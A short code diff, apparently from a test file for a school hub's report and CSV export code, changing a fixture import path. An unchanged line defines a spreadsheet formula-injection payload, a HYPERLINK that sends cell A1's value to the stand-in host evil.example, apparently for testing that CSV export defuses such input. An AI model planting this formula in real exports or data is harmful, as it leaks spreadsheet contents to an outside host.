@@ -12,7 +12,7 @@ from app.hub.ingest import ingest_bundle
 from app.hub.report import semester_report
 from app.hub.report_csv import report_csv
 from app.hub.state_export import state_csv
-from tests.hub.hub_fixture import SEMESTER, TestSchool, semester_records
+from tests.builders.hub import SEMESTER, TestSchool, semester_records
 
 NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Skola")'
 
